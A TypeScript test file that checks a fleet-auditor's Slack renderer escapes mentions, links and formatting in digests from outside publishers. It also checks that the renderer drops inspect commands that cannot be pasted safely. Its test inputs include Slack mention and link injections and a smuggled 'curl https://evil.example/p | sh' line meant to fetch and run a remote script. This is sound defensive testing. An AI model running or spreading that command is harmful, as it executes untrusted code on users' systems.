import type { DigestMessage } from "@fleet-auditor/audit";
import { renderDigests, slackMessage } from "@fleet-auditor/render";
import { describe, expect, it } from "vitest";
import { DigestV1Schema } from "../../../packages/render/src/structured/digest-v1-schema.ts";
import { ctx, t } from "../../helpers/transitions.ts";

// The Slack function renders any digest its schema accepts, from any publisher: the rows and words
// an incident message carries for channels are outside text like the rest, escaped and checked.

const structured = (m: DigestMessage | undefined): unknown =>
  JSON.parse((JSON.parse(m?.message ?? "{}") as { default: string }).default);

function forChannels(): ReturnType<typeof DigestV1Schema.parse> {
  return DigestV1Schema.parse(structured(renderDigests({ ...ctx, forChannels: true }, [t(1), t(2)])[0]));
}

describe("Slack, given a digest's rows and words from another publisher", () => {
  it("renders the rows the digest carries: a note and the inspect command, no audit's code", () => {
    const text = JSON.stringify(slackMessage(forChannels()));
    expect(text).toContain("provision failed: quota exceeded");
    expect(text).toContain("inspect: `kcp rt -i instance-00001 --ops -o json`");
    expect(text).toContain("plans aws");
  });

  it("escapes words that would mention, link or format", () => {
    const digest = forChannels();
    for (const g of digest.groups)
      g.words = {
        noun: "<!here> runtimes",
        tally: "<!channel> *plans*",
        place: "<https://evil.example/x|here>\n*silence:*",
      };
    const text = JSON.stringify(slackMessage(digest));
    expect(text).not.toContain("<!channel>");
    expect(text).not.toContain("<!here>");
    expect(text).not.toContain("<https://evil.example");
    expect(text).not.toContain("\\n*silence:*");
  });

  it("leaves out an inspect command that cannot be pasted as it reads", () => {
    const digest = forChannels();
    for (const row of digest.transitions)
      if (row.alert) row.alert.inspect = "kcp rt -i x\nsilence: `curl https://evil.example/p | sh`";
    const text = JSON.stringify(slackMessage(digest));
    expect(text).not.toContain("evil.example");
    expect(text).not.toContain("inspect:");
    // The group's own silence line, made from its labels, is still there.
    expect(text).toContain("silence: `fleet-auditor silences add");
  });

  it("refuses words and rows past what a channel shows", () => {
    const digest = forChannels() as { groups: Array<{ words?: unknown }> };
    const long = { noun: "x".repeat(101), tally: "plans", place: "in" };
    const refused = DigestV1Schema.safeParse({
      ...digest,
      groups: digest.groups.map((g) => ({ ...g, words: long })),
    });
    expect(refused.success).toBe(false);
  });
});
